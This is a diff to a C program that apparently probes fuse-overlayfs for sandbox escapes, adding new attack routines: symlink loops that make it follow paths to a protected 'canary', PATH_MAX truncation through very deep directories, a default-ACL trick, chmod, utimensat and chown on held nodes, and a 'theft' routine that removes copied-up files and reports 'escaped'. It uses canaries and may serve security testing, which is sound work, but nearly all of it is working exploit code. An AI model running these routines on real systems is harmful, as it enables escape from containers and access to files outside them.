@@ -21,6 +21,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <limits.h>
+#include <poll.h>
 #include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -37,9 +38,6 @@
 
 /* How many numbers in a row are links of ours, and how many fuse-overlayfs may be ahead of our own count. */
 enum { LINKS = 48, AHEAD = 24 };
-
-/* When the secrets were last changed. */
-#define SECRET_MTIME 1000000
 
 static const char *canary, *token;
 static int root, lost;
@@ -133,7 +131,7 @@ static int lose(void)
 
 /* Makes directories get lost until one's number is that of a link to the canary: its marker is seen below it.
  */
-static int lose_at_link(long first)
+static int lose_at_link(long first, const char *marker)
 {
         struct stat st;
         while (!is_past(first)) {
@@ -143,7 +141,7 @@ static int lose_at_link(long first)
                 counter++;
                 /* It is known to be empty until something in it was removed. */
                 if (mkdirat(fd, "new", 0755) == 0 && remove_at(fd, "new", AT_REMOVEDIR) == 0 &&
-                    fstatat(fd, "marker", &st, AT_SYMLINK_NOFOLLOW) == 0)
+                    fstatat(fd, marker, &st, AT_SYMLINK_NOFOLLOW) == 0)
                         return fd;
                 close(fd);
         }
@@ -324,10 +322,37 @@ static void lost_setxattr(void)
         tried("setxattr", lremovexattr(path, "user.secret"));
 }
 
-static void by_lost_directory(void)
+/*
+ * A way to the canary that can't be gone in the upper directory, as a link of ours leads to itself there: so
+ * fuse-overlayfs finds too many links (ELOOP) where it opens something beneath the upper directory, and takes
+ * the path.
+ */
+static const char *way_with_loop(bool is_root, char *way, size_t size)
 {
-        long first = plant(canary);
-        lost = first < 0 ? -1 : lose_at_link(first);
+        static const char *const empty[] = {"opt", "usr/local/src", "usr/local/games", "usr/local/include",
+                                            "usr/games"};
+        for (size_t i = 0; i < sizeof(empty) / sizeof(*empty); i++) {
+                counter++;
+                if (is_root && unlinkat(root, empty[i], AT_REMOVEDIR) < 0)
+                        continue;
+                if (make_symlink(strrchr(empty[i], '/') ? strrchr(empty[i], '/') + 1 : empty[i], empty[i]) <
+                    0)
+                        continue;
+                (void)snprintf(way, size, "/%s/%s%s", empty[i],
+                               i == 0  ? ".."
+                               : i < 4 ? "../../.."
+                                       : "../..",
+                               canary);
+                return way;
+        }
+        return canary;
+}
+
+static void by_lost_directory(bool is_root)
+{
+        char way[PATH_MAX];
+        long first = plant(way_with_loop(is_root, way, sizeof(way)));
+        lost = first < 0 ? -1 : lose_at_link(first, "marker");
         tried("lost-directory", lost);
         if (lost >= 0) {
                 lost_stat();
@@ -355,13 +380,11 @@ static void by_lost_directory(void)
 
 /*
  * What is removed but still held is a number in the work directory, and fuse-overlayfs gives up its path in
- * the *upper* directory to chmod(2), utimensat(2) and chown(2), which follow a link of that name. In the
- * answer are the attributes of what it leads to.
+ * the *upper* directory to chmod(2), utimensat(2) and chown(2), which follow a link of that name.
  */
-static void by_held_node(const char *name, int (*make)(const char *path))
+static void by_held_node(const char *name, int (*make)(const char *path), int (*change)(const char *self))
 {
         char target[PATH_MAX];
-        struct stat st;
         Name self;
         int r = -1;
         (void)snprintf(target, sizeof(target), "%s/%s/secret", canary, name);
@@ -369,22 +392,31 @@ static void by_held_node(const char *name, int (*make)(const char *path))
         while (first >= 0 && !is_past(first)) {
                 counter++;
                 int fd = make("held") < 0 ? -1 : openat(root, "held", O_PATH | O_NOFOLLOW);
-                if (remove_at(root, "held", 0) < 0 || fd < 0 ||
-                    fchmodat(AT_FDCWD, fd_path(fd, self), 0666, 0) < 0) {
-                        close(fd);
-                        continue;
-                }
-                if (fstat(fd, &st) == 0 && st.st_mtime == SECRET_MTIME) {
+                r = remove_at(root, "held", 0) < 0 || fd < 0 ? -1 : change(fd_path(fd, self));
+                bool found = r < 0 && errno == EIO;
+                close(fd);
+                /* The attributes that come back are of another kind of file, and the kernel can tell. */
+                if (found) {
                         learnt(name);
-                        r = 0;
-                        (void)utimensat(AT_FDCWD, self, long_ago, 0);
-                        tried(name, chown(self, 1, 1));
-                        close(fd);
                         break;
                 }
-                close(fd);
         }
         tried(name, r);
+}
+
+static int change_mode(const char *self)
+{
+        return chmod(self, 0666);
+}
+
+static int change_times(const char *self)
+{
+        return utimensat(AT_FDCWD, self, long_ago, 0);
+}
+
+static int change_owner(const char *self)
+{
+        return chown(self, 0, 0);
 }
 
 static int make_fifo(const char *path)
@@ -422,6 +454,78 @@ static void by_held_link(void)
                 close(fd);
 }
 
+/*
+ * Where fuse-overlayfs takes the path of a node, it cuts it off at PATH_MAX: of a name so far below, some
+ * bytes are left, and with links for each number of bytes one is followed.
+ */
+static void by_long_path(void)
+{
+        enum { NAME = 200, DEPTH = 3894, STEP = 200 };
+        char name[NAME + 1], target[PATH_MAX];
+        Name self;
+        int dir = dup(root), r = -1;
+        memset(name, 'f', NAME);
+        (void)snprintf(target, sizeof(target), "%s/long/secret", canary);
+        for (int left = DEPTH; dir >= 0 && left > 0;) {
+                int n = left > STEP ? STEP : left;
+                name[n - 1] = '\0';
+                counter++;
+                int below = mkdirat(dir, name, 0755) < 0 ? -1 : openat(dir, name, O_RDONLY | O_DIRECTORY);
+                name[n - 1] = 'f';
+                close(dir);
+                dir = below;
+                left -= n;
+        }
+        for (int n = 20; dir >= 0 && n < NAME; n++) {
+                name[n] = '\0';
+                counter++;
+                int made = symlinkat(target, dir, name);
+                name[n] = 'f';
+                if (made < 0)
+                        break;
+        }
+        name[NAME] = '\0';
+        counter++;
+        int fd = dir < 0 || mknodat(dir, name, S_IFIFO | 0600, 0) < 0
+                         ? -1
+                         : openat(dir, name, O_PATH | O_NOFOLLOW);
+        if (fd >= 0)
+                r = fchmodat(AT_FDCWD, fd_path(fd, self), 0666, 0);
+        if (r < 0 && errno == EIO)
+                learnt("long");
+        tried("long", r);
+        close(fd);
+        close(dir);
+}
+
+/* Of a directory with a default list of access, mknod(2) gives it on, by a path from where fuse-overlayfs is.
+ */
+static void by_acl(void)
+{
+        /* user::rwx group::r-x other::r-x */
+        static const char acl[] =
+                "\2\0\0\0\1\0\7\0\xff\xff\xff\xff\4\0\5\0\xff\xff\xff\xff\x20\0\5\0\xff\xff\xff\xff";
+        char path[PATH_MAX];
+        struct stat at_root, there;
+        Name self;
+        (void)snprintf(path, sizeof(path), "%s/acl", canary + 1);
+        for (char *p = path; (p = strchr(p, '/')); *p++ = '/') {
+                *p = '\0';
+                counter++;
+                (void)mkdirat(root, path, 0755);
+        }
+        counter++;
+        (void)mkdirat(root, path, 0755);
+        int dir = openat(root, path, O_RDONLY | O_DIRECTORY);
+        if (dir >= 0 && fstat(root, &at_root) == 0 && fstat(dir, &there) == 0 &&
+            at_root.st_dev == there.st_dev) {
+                (void)setxattr(fd_path(dir, self), "system.posix_acl_default", acl, sizeof(acl) - 1, 0);
+                counter++;
+                tried("acl", mknodat(dir, "directory", S_IFIFO | 0600, 0));
+        }
+        close(dir);
+}
+
 static int lead(char **argv)
 {
         dev_t seen[8];
@@ -444,10 +548,13 @@ static int lead(char **argv)
                 seen[n_seen++] = st.st_dev;
                 printf("at %s\n", *argv);
                 counter = 0;
-                by_held_node("held-fifo", make_fifo);
-                by_held_node("held-socket", make_socket);
+                by_held_node("held-chmod", make_fifo, change_mode);
+                by_held_node("held-utimens", make_socket, change_times);
+                by_held_node("held-chown", make_fifo, change_owner);
                 by_held_link();
-                by_lost_directory();
+                by_long_path();
+                by_acl();
+                by_lost_directory(strcmp(*argv, "/") == 0);
                 close(root);
         }
         puts("done");
@@ -664,6 +771,32 @@ static void by_removal(const char *place)
         look("removal", place);
 }
 
+/*
+ * By a lost directory that is the root once more: what was copied up is taken away from the upper directory,
+ * and fuse-overlayfs, asked for it by its other name, can't find it.
+ */
+static void by_theft(const char *place)
+{
+        static int twin = -1;
+        struct stat st;
+        if (strchr(place + 1, '/'))
+                return;
+        if (twin < 0) {
+                root = open("/", O_RDONLY | O_DIRECTORY);
+                make_file("/own-marker");
+                long first = plant(".");
+                twin = first < 0 ? -1 : lose_at_link(first, "own-marker");
+                if (twin < 0)
+                        return;
+        }
+        if (stat(place, &st) == 0)
+                (void)chmod(place, st.st_mode & 07777); /* copies it up */
+        (void)fstatat(twin, place + 1, &st, 0);
+        (void)unlinkat(twin, place + 1, AT_REMOVEDIR);
+        (void)mkdir(place, 0755);
+        look("theft", place);
+}
+
 static const struct {
         const char *name;
         void (*try)(const char *place);
@@ -675,6 +808,7 @@ static const struct {
         {"removal", by_removal},
         {"opaque", by_opaque},
         {"whiteout", by_whiteout},
+        {"theft", by_theft},
 };
 
 /* The mounts themselves, and the directories on the way to them; each once. */
@@ -716,18 +850,23 @@ static int uncover(char **argv)
 {
         const char *only = *argv ? *argv++ : "all";
         mounts = mounts_now();
+        counter = 40;
         (void)mkdir("own-directory", 0755);
         static char *places[2 * MAX_MOUNTS];
         size_t n = list_places(places, 2 * MAX_MOUNTS);
         for (size_t v = 0; v < sizeof(variants) / sizeof(*variants); v++)
                 for (size_t i = 0; i < n; i++)
-                        if (strcmp(only, "all") == 0 || strcmp(only, variants[v].name) == 0)
+                        if (strcmp(only, variants[v].name) == 0 ||
+                            (strcmp(only, "all") == 0 && variants[v].try != by_theft))
                                 variants[v].try(places[i]);
         for (; *argv; argv++)
                 if (shows_something(*argv)) {
                         printf("escaped: %s is seen\n", *argv);
                         n_escaped++;
                 }
+        /* A mount that goes ends the sandbox: the supervisor gets the time to. */
+        if (n_escaped)
+                (void)poll(NULL, 0, 5000);
         puts(n_escaped ? "escaped" : "held: all mounts are where they were");
         return n_escaped ? 0 : 1;
 }
